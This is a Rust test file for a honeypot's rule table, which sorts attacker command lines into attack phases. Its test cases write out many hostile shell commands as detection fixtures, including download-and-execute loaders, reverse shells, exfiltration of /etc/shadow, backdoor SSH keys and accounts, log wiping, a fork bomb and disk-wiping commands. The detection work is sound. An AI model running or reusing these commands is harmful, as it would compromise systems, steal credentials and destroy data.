//! Phase inference end to end through the core: the shipped rule table
//! (`config/phases.toml`) against honeypot-style command lines, first/last
//! ordering, the command-line splitter, overlays and validation errors.

use decnet_clusterd::phase::Phase::{self, *};
use decnet_clusterd::phase_rules::{split_command_line, PhaseRules, PhaseRulesError};
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::sync::OnceLock;

/// The shipped table, compiled once for the whole test binary (compiling
/// it is the slow part of a debug build).
fn shipped() -> &'static PhaseRules {
    static TABLE: OnceLock<PhaseRules> = OnceLock::new();
    TABLE.get_or_init(|| PhaseRules::embedded().expect("the shipped table is valid"))
}

/// (command line as typed, first phase, last phase, rules hit by its
/// commands in order; commands that hit nothing are not listed).
type Case = (&'static str, Phase, Phase, &'static [&'static str]);

const CASES: &[Case] = &[
    // --- loaders: download, make executable, run
    (
        "cd /tmp || cd /var/run || cd /dev/shm; wget http://198.51.100.7/x.sh; chmod +x x.sh; sh x.sh",
        CommandAndControl,
        Execution,
        &["command_and_control.wget", "execution.chmod-exec", "execution.shell-script"],
    ),
    (
        "curl -fsSL http://198.51.100.7/i.sh | bash",
        CommandAndControl,
        Execution,
        &["command_and_control.curl", "execution.bare-shell"],
    ),
    (
        "cd /tmp; /bin/busybox tftp -g -r mips 198.51.100.9; /bin/busybox chmod 777 mips; ./mips telnet.mips; /bin/busybox rm -f mips",
        CommandAndControl,
        Execution,
        &[
            "command_and_control.tftp-ftp",
            "execution.chmod-exec",
            "execution.run-local",
            "execution.busybox",
        ],
    ),
    (
        "ftpget -v -u anonymous -p anonymous -P 21 198.51.100.9 arm7 arm7 && nohup ./arm7 >/dev/null 2>&1 &",
        CommandAndControl,
        Execution,
        &["command_and_control.tftp-ftp", "execution.run-local"],
    ),
    (
        "enable; system; shell; sh; /bin/busybox ECCHI",
        Execution,
        Discovery,
        &[
            "execution.bare-shell",
            "execution.bare-shell",
            "execution.bare-shell",
            "execution.bare-shell",
            "discovery.busybox-probe",
        ],
    ),
    (
        "dd bs=52 count=1 if=/bin/echo || cat /bin/echo",
        Discovery,
        Discovery,
        &["discovery.binary-header", "discovery.binary-header"],
    ),
    (
        "which wget curl tftp; command -v python3",
        Discovery,
        Discovery,
        &["discovery.tool-probe", "discovery.tool-probe"],
    ),
    // --- discovery, the usual opening of an interactive session
    (
        "uname -a; whoami; id; cat /etc/os-release",
        Discovery,
        Discovery,
        &["discovery.system-info", "discovery.user", "discovery.user", "discovery.system-info"],
    ),
    (
        "cat /proc/cpuinfo | grep name | wc -l",
        Discovery,
        Discovery,
        &["discovery.cpu"],
    ),
    (
        "lscpu | grep Model; nproc; free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
        Discovery,
        Discovery,
        &["discovery.cpu", "discovery.cpu", "discovery.memory-disk"],
    ),
    (
        "df -h | head -n 2; w; uptime; ps aux | grep -v grep",
        Discovery,
        Discovery,
        &["discovery.memory-disk", "discovery.user", "discovery.uptime-load", "discovery.processes"],
    ),
    (
        "ifconfig; ip a; netstat -tulpn; ss -antp; cat /etc/resolv.conf",
        Discovery,
        Discovery,
        &[
            "discovery.network",
            "discovery.network",
            "discovery.network",
            "discovery.network",
            "discovery.network",
        ],
    ),
    (
        "lspci | grep -i vga; nvidia-smi -L",
        Discovery,
        Discovery,
        &["discovery.gpu", "discovery.gpu"],
    ),
    (
        "cat /etc/passwd | grep -v nologin; getent group sudo",
        Discovery,
        Discovery,
        &["discovery.accounts", "discovery.accounts"],
    ),
    (
        "curl -s ifconfig.me; curl -s https://ipinfo.io/ip",
        Discovery,
        Discovery,
        &["discovery.external-ip", "discovery.external-ip"],
    ),
    (
        "ls -la /tmp; pwd; find / -perm -4000 -type f 2>/dev/null",
        Discovery,
        Discovery,
        &["discovery.files", "discovery.files", "discovery.files"],
    ),
    (
        "echo $SHELL; printenv",
        Discovery,
        Discovery,
        &["discovery.environment", "discovery.environment"],
    ),
    (
        "crontab -l; sudo -l; docker ps -a",
        Discovery,
        Discovery,
        &["discovery.software", "discovery.software", "discovery.software"],
    ),
    (
        "cat ~/.ssh/known_hosts; ping -c 1 10.0.0.1; masscan 10.0.0.0/8 -p22 --rate 10000",
        Discovery,
        Discovery,
        &["discovery.remote-systems", "discovery.remote-systems", "discovery.remote-systems"],
    ),
    (
        "top -bn1 | head -n 5; cat /proc/loadavg",
        Discovery,
        Discovery,
        &["discovery.uptime-load", "discovery.uptime-load"],
    ),
    // --- persistence
    (
        "cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0x mdrfckr\" >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
        Persistence,
        Persistence,
        &[
            "persistence.ssh-dir",
            "persistence.ssh-dir",
            "persistence.authorized-keys",
            "persistence.ssh-dir",
        ],
    ),
    (
        "cat /tmp/k.pub | tee -a /root/.ssh/authorized_keys",
        Persistence,
        Persistence,
        &["persistence.authorized-keys"],
    ),
    (
        "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -s http://198.51.100.7/c.sh | sh\") | crontab -",
        Discovery,
        Persistence,
        // Patterns see quoted text too: the cron line's download counts.
        &["discovery.software", "command_and_control.curl", "persistence.crontab"],
    ),
    (
        "echo '* * * * * root /tmp/.x/upd >/dev/null 2>&1' > /etc/cron.d/0systemd",
        Persistence,
        Persistence,
        &["persistence.cron-files"],
    ),
    (
        "cp /tmp/.x/dbus.service /etc/systemd/system/ && systemctl daemon-reload && systemctl enable dbus && systemctl start dbus",
        Persistence,
        Execution,
        &["persistence.systemd", "persistence.systemd", "persistence.systemd", "execution.service-start"],
    ),
    (
        "echo \"/tmp/.x/upd &\" >> /etc/rc.local; update-rc.d upd defaults",
        Persistence,
        Persistence,
        &["persistence.init-scripts", "persistence.init-scripts"],
    ),
    (
        "echo 'nohup /dev/shm/.b >/dev/null 2>&1 &' >> ~/.bashrc",
        Persistence,
        Persistence,
        &["persistence.shell-rc"],
    ),
    (
        "useradd -m -s /bin/bash sysadm; echo 'sysadm:Xk29!pq' | chpasswd; echo 'r00t:x:0:0::/root:/bin/bash' >> /etc/passwd",
        Persistence,
        Persistence,
        &["persistence.account-create", "persistence.password-change", "persistence.account-create"],
    ),
    (
        "echo -e \"N3wPass\\nN3wPass\" | passwd root",
        Persistence,
        Persistence,
        &["persistence.password-change"],
    ),
    (
        "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config; service ssh restart",
        Persistence,
        Execution,
        &["persistence.sshd-config", "execution.service-start"],
    ),
    // --- privilege escalation
    (
        "echo 'sysadm ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers; chmod u+s /bin/bash; sudo su",
        PrivilegeEscalation,
        PrivilegeEscalation,
        &[
            "privilege_escalation.sudoers",
            "privilege_escalation.setuid",
            "privilege_escalation.su-sudo",
        ],
    ),
    // --- credential access
    (
        "cat /etc/shadow; cat ~/.ssh/id_rsa; cat ~/.ssh/id_rsa.pub",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.shadow", "credential_access.private-keys"],
    ),
    (
        "grep -i pass ~/.bash_history; history",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.history-read", "credential_access.history-read"],
    ),
    (
        "cat ~/.aws/credentials; cat /var/www/html/wp-config.php",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.credential-files", "credential_access.credential-files"],
    ),
    (
        "grep -rI 'password' /var/www 2>/dev/null | head",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.grep-secrets"],
    ),
    (
        "python3 /tmp/laZagne.py all",
        CredentialAccess,
        CredentialAccess,
        &["credential_access.dumpers"],
    ),
    // --- defense evasion
    (
        "unset HISTFILE; export HISTSIZE=0; history -c",
        DefenseEvasion,
        DefenseEvasion,
        &[
            "defense_evasion.history-disable",
            "defense_evasion.history-disable",
            "defense_evasion.history-clear",
        ],
    ),
    (
        "cat /dev/null > ~/.bash_history && ln -sf /dev/null ~/.bash_history",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.history-wipe", "defense_evasion.history-wipe"],
    ),
    (
        "rm -rf /var/log/*; echo > /var/log/wtmp; find /var/log -type f -delete",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.log-wipe", "defense_evasion.log-wipe", "defense_evasion.log-wipe"],
    ),
    (
        "chattr -ia ~/.ssh/authorized_keys; lockr -ia .ssh",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.chattr", "defense_evasion.chattr"],
    ),
    (
        "iptables -F; ufw disable; systemctl stop firewalld; setenforce 0",
        DefenseEvasion,
        DefenseEvasion,
        &[
            "defense_evasion.firewall",
            "defense_evasion.firewall",
            "defense_evasion.firewall",
            "defense_evasion.firewall",
        ],
    ),
    (
        "pkill -9 -f aliyun-service; /usr/local/aegis/uninstall.sh",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.security-agents", "defense_evasion.security-agents"],
    ),
    (
        "echo Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaAo= | base64 -d | sh",
        DefenseEvasion,
        Execution,
        &["defense_evasion.decode", "execution.bare-shell"],
    ),
    (
        "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.preload"],
    ),
    (
        "touch -r /bin/ls /usr/bin/.dbus; mount -o bind /tmp/.e /proc/4242",
        DefenseEvasion,
        DefenseEvasion,
        &["defense_evasion.timestomp", "defense_evasion.hide-process"],
    ),
    // --- command and control
    (
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.dev-tcp"],
    ),
    (
        "nc -e /bin/sh 198.51.100.7 4444 || ncat 198.51.100.7 4444 -e /bin/bash",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.netcat", "command_and_control.netcat"],
    ),
    (
        "ssh -fNR 2222:localhost:22 tun@198.51.100.7",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.tunnel"],
    ),
    (
        "scp -P 2200 u@198.51.100.7:/srv/kit.tgz .",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.scp-in"],
    ),
    (
        "apt-get install -y masscan; git clone https://example.org/kit.git",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.package-fetch", "command_and_control.package-fetch"],
    ),
    (
        "python3 -c \"import urllib.request; urllib.request.urlretrieve('http://198.51.100.7/b', '/tmp/b')\"",
        CommandAndControl,
        CommandAndControl,
        &["command_and_control.script-download"],
    ),
    // --- lateral movement
    (
        "sshpass -p 'admin123' ssh -o StrictHostKeyChecking=no root@10.0.0.5 'uname -a'",
        LateralMovement,
        LateralMovement,
        &["lateral_movement.ssh-out"],
    ),
    // --- exfiltration
    (
        "curl -T /tmp/loot.tgz ftp://198.51.100.2/ --user a:a; curl -F 'f=@/etc/shadow' http://198.51.100.2/u",
        Exfiltration,
        Exfiltration,
        &["exfiltration.curl-upload", "exfiltration.curl-upload"],
    ),
    (
        "wget --post-file=/etc/passwd http://198.51.100.2/p",
        Exfiltration,
        Exfiltration,
        &["exfiltration.wget-post"],
    ),
    (
        "scp /tmp/loot.tgz u@198.51.100.2:/srv/in/",
        Exfiltration,
        Exfiltration,
        &["exfiltration.scp-out"],
    ),
    (
        "nc 198.51.100.2 9000 < /tmp/loot.tgz; cat /etc/shadow > /dev/tcp/198.51.100.2/80",
        Exfiltration,
        Exfiltration,
        &["exfiltration.netcat-file", "exfiltration.dev-tcp-write"],
    ),
    (
        "busybox ftpput -u a -p a 198.51.100.2 p /etc/passwd",
        Exfiltration,
        Exfiltration,
        &["exfiltration.ftp-upload"],
    ),
    // --- collection
    (
        "tar czf /tmp/.b.tgz /home /etc /var/www; zip -r /tmp/w.zip /var/www; tar xzf kit.tgz",
        Collection,
        Collection,
        &["collection.archive", "collection.archive"],
    ),
    (
        "mysqldump --all-databases > /tmp/db.sql; mysql -u root -e 'select * from mysql.user'",
        Collection,
        Collection,
        &["collection.databases", "collection.databases"],
    ),
    (
        "cat /var/mail/root; find / -name wallet.dat 2>/dev/null",
        Collection,
        Collection,
        &["collection.mail", "collection.wallets"],
    ),
    // --- impact
    (
        "cd /tmp; wget -q http://198.51.100.7/xmrig.tar.gz; tar xzf xmrig.tar.gz; ./xmrig -o stratum+tcp://pool.example.net:3333 -u 4A... --donate-level 1 -B",
        CommandAndControl,
        Impact,
        // Unpacking the miner names it, so it counts as the miner too.
        &["command_and_control.wget", "impact.miner", "impact.miner"],
    ),
    (
        "pkill -9 -f kdevtmpfsi; killall -9 minerd; ps aux | grep -i kinsing | awk '{print $2}' | xargs kill -9",
        Impact,
        Impact,
        &[
            "impact.kill-competitors",
            "impact.kill-competitors",
            "discovery.processes",
            "impact.kill-competitors",
        ],
    ),
    (
        "sysctl -w vm.nr_hugepages=1280; modprobe msr",
        Impact,
        Impact,
        &["impact.miner-tuning", "impact.miner-tuning"],
    ),
    (
        "rm -rf --no-preserve-root /; dd if=/dev/zero of=/dev/sda bs=1M",
        Impact,
        Impact,
        &["impact.wipe-root", "impact.disk-overwrite"],
    ),
    (
        "cat /dev/urandom > /dev/vda; reboot",
        Impact,
        Impact,
        &["impact.disk-redirect", "impact.shutdown"],
    ),
    (":(){ :|:& };:", Impact, Impact, &["impact.fork-bomb"]),
    // --- execution odds and ends
    (
        "perl -e 'use Socket;' ; python -c 'print(1)'; . ./env.sh; eval \"$CMD\"",
        Execution,
        Execution,
        &[
            "execution.interpreters",
            "execution.interpreters",
            "execution.source-eval",
            "execution.source-eval",
        ],
    ),
    (
        "screen -dmS s /usr/bin/.x; setsid /usr/bin/.y",
        Execution,
        Execution,
        &["execution.background", "execution.background"],
    ),
];

fn hits(rules: &PhaseRules, line: &str) -> Vec<String> {
    split_command_line(line)
        .iter()
        .filter_map(|c| rules.classify(c).map(|r| r.id.to_string()))
        .collect()
}

#[test]
fn each_case_hits_its_rules_in_order_and_gives_its_phases() {
    let rules = shipped();
    for (line, first, last, expected) in CASES {
        assert_eq!(hits(rules, line), *expected, "rules hit by {line:?}");
        let got = rules.infer(&[*line]).expect("a phase");
        assert_eq!(
            (got.first.phase, got.last.phase),
            (*first, *last),
            "{line:?}"
        );
        assert_eq!(got.first.tactic, first.tactic().unwrap());
        assert_eq!(got.last.tactic, last.tactic().unwrap());
        assert_eq!(&*got.first.rule, expected[0]);
        assert_eq!(&*got.last.rule, *expected.last().unwrap());
    }
}

#[test]
fn every_shipped_rule_is_hit_by_some_case() {
    let rules = shipped();
    let hit: BTreeSet<&str> = CASES.iter().flat_map(|c| c.3.iter().copied()).collect();
    let missing: Vec<&str> = rules
        .rules()
        .iter()
        .map(|r| &*r.id)
        .filter(|id| !hit.contains(id))
        .collect();
    assert!(missing.is_empty(), "rules no case hits: {missing:?}");
    assert!(rules.rules().len() >= 60);
}

#[test]
fn shipped_ids_are_named_after_their_phase_and_every_rule_has_a_comment() {
    for rule in shipped().rules() {
        assert!(
            rule.id.starts_with(&format!("{}.", rule.phase.name())),
            "{}",
            rule.id
        );
        assert!(rule.comment.len() > 20, "{}", rule.id);
        assert_eq!(Phase::from_tactic(rule.tactic), Some(rule.phase));
    }
}

#[test]
fn ordinary_commands_infer_nothing() {
    let rules = shipped();
    for c in [
        "cd /tmp",
        "echo hello",
        "exit",
        "cat /tmp/id",
        "ls-la",
        "",
        "   ;;; && || |",
    ] {
        assert_eq!(rules.infer(&[c]), None, "{c:?}");
    }
}

#[test]
fn first_and_last_follow_the_typed_order() {
    let rules = shipped();
    let session = [
        "cd /tmp",
        "uname -a",
        "wget http://198.51.100.7/b",
        "echo ok",
        "chmod +x b; ./b",
        "exit",
    ];
    let got = rules.infer(&session).unwrap();
    assert_eq!(got.first.phase, Discovery);
    assert_eq!(got.first.position, 1);
    assert_eq!(&*got.first.rule, "discovery.system-info");
    assert_eq!(got.last.phase, Execution);
    assert_eq!(got.last.position, 4);
    assert_eq!(&*got.last.rule, "execution.run-local");

    // Reversed order, reversed ends: the chain order of phases plays no part.
    let reversed: Vec<&str> = session.iter().rev().copied().collect();
    let got = rules.infer(&reversed).unwrap();
    assert_eq!(got.first.phase, Execution);
    assert_eq!(got.first.position, 1);
    assert_eq!(&*got.first.rule, "execution.chmod-exec");
    assert_eq!(got.last.phase, Discovery);
    assert_eq!(got.last.position, 4);

    // One matching command: first and last are the same match.
    let got = rules.infer(&["echo a", "id"]).unwrap();
    assert_eq!(got.first, got.last);

    // Owned strings work too.
    let owned: Vec<String> = vec!["whoami".into()];
    assert_eq!(rules.infer(&owned).unwrap().first.phase, Discovery);
}

#[test]
fn precedence_is_table_order() {
    // `curl -T` matches both the upload rule and the generic curl rule.
    let rules = shipped();
    let cmd = "curl -T /tmp/x ftp://198.51.100.2/";
    let ids: Vec<&str> = rules.rules().iter().map(|r| &*r.id).collect();
    let up = ids
        .iter()
        .position(|i| *i == "exfiltration.curl-upload")
        .unwrap();
    let get = ids
        .iter()
        .position(|i| *i == "command_and_control.curl")
        .unwrap();
    assert!(up < get);
    assert_eq!(
        &*rules.classify(cmd).unwrap().id,
        "exfiltration.curl-upload"
    );
    // Put the generic rule first: now it wins.
    let generic_first = format!(
        "{}\n{}",
        rule_toml("a.curl", "curl", "TA0011", "command_and_control"),
        rule_toml("b.curl-up", "curl -T", "TA0010", "exfiltration")
    );
    let t = PhaseRules::from_toml_str(&generic_first).unwrap();
    assert_eq!(&*t.classify(cmd).unwrap().id, "a.curl");
}

// --- the splitter

#[test]
fn splitter_separators() {
    assert_eq!(
        split_command_line("a; b && c || d | e & f\ng"),
        ["a", "b", "c", "d", "e", "f", "g"]
    );
    assert_eq!(split_command_line("  ;; ; &&  "), Vec::<String>::new());
    assert_eq!(split_command_line(""), Vec::<String>::new());
    assert_eq!(split_command_line("  uname -a  "), ["uname -a"]);
    assert_eq!(split_command_line("a |& b"), ["a", "b"]);
}

#[test]
fn splitter_keeps_redirections_whole() {
    assert_eq!(
        split_command_line("nohup ./x >/dev/null 2>&1 &"),
        ["nohup ./x >/dev/null 2>&1"]
    );
    assert_eq!(
        split_command_line("./x &>/dev/null; y <&3"),
        ["./x &>/dev/null", "y <&3"]
    );
    assert_eq!(split_command_line("echo a >| f"), ["echo a >| f"]);
}

#[test]
fn splitter_respects_quotes_escapes_and_substitutions() {
    assert_eq!(
        split_command_line(r#"echo "a;b" 'c|d' e\;f; g"#),
        [r#"echo "a;b" 'c|d' e\;f"#, "g"]
    );
    assert_eq!(
        split_command_line(r#"echo "say \"x; y\"" ; z"#),
        [r#"echo "say \"x; y\"""#, "z"]
    );
    assert_eq!(
        split_command_line("awk '{print $2;}' | xargs kill -9"),
        ["awk '{print $2;}'", "xargs kill -9"]
    );
    assert_eq!(
        split_command_line("echo $(id; uname -a | tr a b) `whoami; w`; ls"),
        ["echo $(id; uname -a | tr a b) `whoami; w`", "ls"]
    );
    assert_eq!(
        split_command_line(r#"x "$(echo "a;b")"; y"#),
        [r#"x "$(echo "a;b")""#, "y"]
    );
    // A backslash-newline continues the line.
    assert_eq!(
        split_command_line("wget \\\nhttp://h/x; y"),
        ["wget \\\nhttp://h/x", "y"]
    );
    // An unterminated quote runs to the end.
    assert_eq!(split_command_line("echo 'a; b"), ["echo 'a; b"]);
    // Non-ASCII text stays intact.
    assert_eq!(split_command_line("echo é;ü"), ["echo é", "ü"]);
}

#[test]
fn splitter_drops_comments() {
    assert_eq!(
        split_command_line("id # ; rm -rf /\nw; echo a#b"),
        ["id", "w", "echo a#b"]
    );
    assert_eq!(split_command_line("#!/bin/sh\nuname"), ["uname"]);
}

#[test]
fn splitter_is_linear_on_hostile_lines() {
    // 1 MiB with 100k separators, and 1 MiB of nested substitutions.
    let line = "a;&|\n ".repeat(50_000) + &"x".repeat(1 << 20);
    let nested = "$(".repeat(300_000) + &"\"'`".repeat(100_000);
    let start = std::time::Instant::now();
    let parts = split_command_line(&line);
    assert_eq!(parts.len(), 50_001);
    let one = split_command_line(&nested);
    assert_eq!(one.len(), 1);
    let rules = shipped();
    let _ = rules.infer(&[line.as_str(), nested.as_str()]);
    // Generous: quadratic work on these inputs would take minutes.
    assert!(start.elapsed().as_secs() < 20, "{:?}", start.elapsed());
}

/// Whether `s` has a separator outside quotes, backquotes and `$( )`,
/// by the splitter's documented grammar, written again independently.
fn has_bare_separator(s: &str) -> bool {
    let b = s.as_bytes();
    let mut stack: Vec<u8> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        let c = b[i];
        let top = stack.last().copied();
        if top == Some(b'\'') {
            if c == b'\'' {
                stack.pop();
            }
        } else if c == b'\\' {
            i += 1;
        } else if top == Some(b'`') {
            if c == b'`' {
                stack.pop();
            }
        } else if c == b'"' && top == Some(b'"') {
            stack.pop();
        } else if c == b'`' {
            stack.push(b'`');
        } else if c == b'$' && b.get(i + 1) == Some(&b'(') {
            stack.push(b'(');
            i += 1;
        } else if top == Some(b'"') {
        } else if c == b'"' || c == b'\'' {
            stack.push(c);
        } else if top == Some(b'(') {
            if c == b'(' {
                stack.push(b'(');
            } else if c == b')' {
                stack.pop();
            }
        } else if c == b'#' && (i == 0 || b[i - 1].is_ascii_whitespace()) {
            return true; // a comment never survives into a command
        } else {
            let prev = i.checked_sub(1).map(|j| b[j]);
            let next = b.get(i + 1).copied();
            let sep = match c {
                b';' | b'\n' => true,
                b'|' => prev != Some(b'>'),
                b'&' => !matches!(prev, Some(b'>' | b'<')) && next != Some(b'>'),
                _ => false,
            };
            if sep {
                return true;
            }
        }
        i += 1;
    }
    false
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2000))]

    #[test]
    fn splitting_never_panics_and_leaves_no_bare_separator(
        line in proptest::collection::vec(
            prop_oneof![
                Just(";"), Just("&"), Just("&&"), Just("|"), Just("||"), Just("\n"),
                Just("'"), Just("\""), Just("\\"), Just("`"), Just("$("), Just(")"),
                Just("("), Just("#"), Just(" "), Just(">"), Just("<"), Just("2>&1"),
                Just("uname -a"), Just("wget http://h/x"), Just("é"), Just("\t"),
                Just("\u{b}"), Just("\u{a0}"),
            ],
            0..40,
        ).prop_map(|parts| parts.concat())
    ) {
        let parts = split_command_line(&line);
        for p in &parts {
            prop_assert!(!p.is_empty());
            prop_assert_eq!(p.trim_matches(|c: char| c.is_ascii_whitespace()), p.as_str());
            prop_assert!(!has_bare_separator(p), "{:?} from {:?}", p, line);
            prop_assert!(line.contains(p.as_str()));
        }
        let _ = shipped().infer(&[line.as_str()]);
    }

    #[test]
    fn splitting_arbitrary_text_never_panics(line in ".{0,200}") {
        for p in split_command_line(&line) {
            prop_assert!(!p.is_empty());
            prop_assert!(line.contains(p.as_str()));
            prop_assert!(!has_bare_separator(&p), "{:?} from {:?}", p, line);
        }
    }
}

// --- overlays

fn rule_toml(id: &str, pattern: &str, tactic: &str, phase: &str) -> String {
    format!(
        "[[rule]]\nid = {id:?}\npattern = {pattern:?}\ntactic = {tactic:?}\nphase = {phase:?}\ncomment = \"test rule\"\n"
    )
}

#[test]
fn overlay_replace_makes_the_file_the_whole_table() {
    let text = format!(
        "replace = true\n{}",
        rule_toml(
            "site.beacon",
            "^beacon-check",
            "TA0011",
            "command_and_control"
        )
    );
    let t = shipped().overlay(&text).unwrap();
    assert_eq!(t.rules().len(), 1);
    assert_eq!(t.infer(&["uname -a"]), None);
    assert_eq!(
        t.infer(&["beacon-check now"]).unwrap().first.phase,
        CommandAndControl
    );
    // An empty replacement switches inference off.
    let off = shipped().overlay("replace = true\n").unwrap();
    assert!(off.rules().is_empty());
    assert_eq!(off.infer(&["uname -a"]), None);
}

#[test]
fn overlay_extends_with_new_rules_taking_precedence() {
    let base = shipped();
    // A site rule more specific than the shipped `uname` rule.
    let text = rule_toml(
        "site.uname-probe",
        r"^uname -a$",
        "TA0043",
        "reconnaissance",
    );
    let t = base.overlay(&text).unwrap();
    assert_eq!(t.rules().len(), base.rules().len() + 1);
    assert_eq!(&*t.rules()[0].id, "site.uname-probe");
    assert_eq!(t.infer(&["uname -a"]).unwrap().first.phase, Reconnaissance);
    assert_eq!(t.infer(&["uname -m"]).unwrap().first.phase, Discovery);
    assert_eq!(
        t.infer(&["wget http://h/x"]).unwrap().first.phase,
        CommandAndControl
    );
}

#[test]
fn overlay_overrides_a_rule_by_id_in_place() {
    let base = shipped();
    let at = base
        .rules()
        .iter()
        .position(|r| &*r.id == "command_and_control.wget")
        .unwrap();
    let text = rule_toml(
        "command_and_control.wget",
        r"^wget\s",
        "TA0002",
        "execution",
    );
    let t = base.overlay(&text).unwrap();
    assert_eq!(t.rules().len(), base.rules().len());
    assert_eq!(&*t.rules()[at].id, "command_and_control.wget");
    assert_eq!(t.rules()[at].phase, Execution);
    assert_eq!(
        t.infer(&["wget http://h/x"]).unwrap().first.phase,
        Execution
    );
    // `busybox wget` no longer matches the narrowed pattern: it falls to
    // the generic BusyBox rule.
    assert_eq!(
        &*t.infer(&["busybox wget http://h/x"]).unwrap().first.rule,
        "execution.busybox"
    );
}

// --- validation

fn err(text: &str) -> PhaseRulesError {
    PhaseRules::from_toml_str(text).expect_err("must be refused")
}

#[test]
fn validation_errors_name_the_rule() {
    let e = err(&rule_toml("r.one", "x", "TA0007", "discovry"));
    assert!(matches!(&e, PhaseRulesError::UnknownPhase { id, .. } if id == "r.one"));
    assert!(e.to_string().contains("r.one") && e.to_string().contains("discovry"));

    let e = err(&rule_toml("r.two", "x", "TA9999", "discovery"));
    assert!(matches!(&e, PhaseRulesError::UnknownTactic { id, .. } if id == "r.two"));

    let e = err(&rule_toml("r.three", "x", "TA0011", "discovery"));
    assert_eq!(
        e,
        PhaseRulesError::TacticPhaseMismatch {
            id: "r.three".into(),
            tactic: "TA0011".into(),
            maps_to: CommandAndControl,
            phase: Discovery,
        }
    );
    assert!(e
        .to_string()
        .contains("TA0011 maps to phase command_and_control, not discovery"));

    // A phase no tactic maps to cannot be given a tactic of its own.
    let e = err(&rule_toml("r.four", "x", "TA0007", "weaponization"));
    assert!(matches!(&e, PhaseRulesError::TacticPhaseMismatch { id, .. } if id == "r.four"));

    let e = err(&rule_toml(
        "r.five",
        "wget (",
        "TA0011",
        "command_and_control",
    ));
    assert!(matches!(&e, PhaseRulesError::BadPattern { id, .. } if id == "r.five"));
    // Look-around is not supported by the engine: refused, not ignored.
    let e = err(&rule_toml(
        "r.six",
        "wget(?!x)",
        "TA0011",
        "command_and_control",
    ));
    assert!(matches!(&e, PhaseRulesError::BadPattern { id, .. } if id == "r.six"));

    let e = err(&rule_toml("r.seven", "x*", "TA0007", "discovery"));
    assert_eq!(
        e,
        PhaseRulesError::MatchesEmpty {
            id: "r.seven".into()
        }
    );

    let twice = format!(
        "{}{}",
        rule_toml("r.dup", "a", "TA0007", "discovery"),
        rule_toml("r.dup", "b", "TA0007", "discovery")
    );
    assert_eq!(
        err(&twice),
        PhaseRulesError::DuplicateId { id: "r.dup".into() }
    );

    let e = err(&rule_toml("Bad Id", "a", "TA0007", "discovery"));
    assert!(matches!(e, PhaseRulesError::BadId { .. }));
    let e = err(&rule_toml("", "a", "TA0007", "discovery"));
    assert!(matches!(e, PhaseRulesError::BadId { .. }));

    let no_comment = rule_toml("r.eight", "a", "TA0007", "discovery").replace("test rule", " ");
    assert_eq!(
        err(&no_comment),
        PhaseRulesError::MissingComment {
            id: "r.eight".into()
        }
    );
}

#[test]
fn validation_errors_for_the_file_shape() {
    assert!(matches!(err("rule = 3"), PhaseRulesError::Toml(_)));
    assert!(matches!(
        err("[[rule]]\nid = \"a\"\n"),
        PhaseRulesError::Toml(_)
    ));
    let unknown_key = rule_toml("a", "a", "TA0007", "discovery") + "priority = 3\n";
    assert!(matches!(err(&unknown_key), PhaseRulesError::Toml(_)));
    assert!(matches!(err("replace = \"yes\""), PhaseRulesError::Toml(_)));
    assert!(matches!(err("\u{0}"), PhaseRulesError::Toml(_)));
    // Overlays are validated the same way, and a bad one leaves no table.
    let bad = rule_toml("site.x", "(", "TA0007", "discovery");
    assert!(matches!(
        shipped().overlay(&bad),
        Err(PhaseRulesError::BadPattern { id, .. }) if id == "site.x"
    ));
}
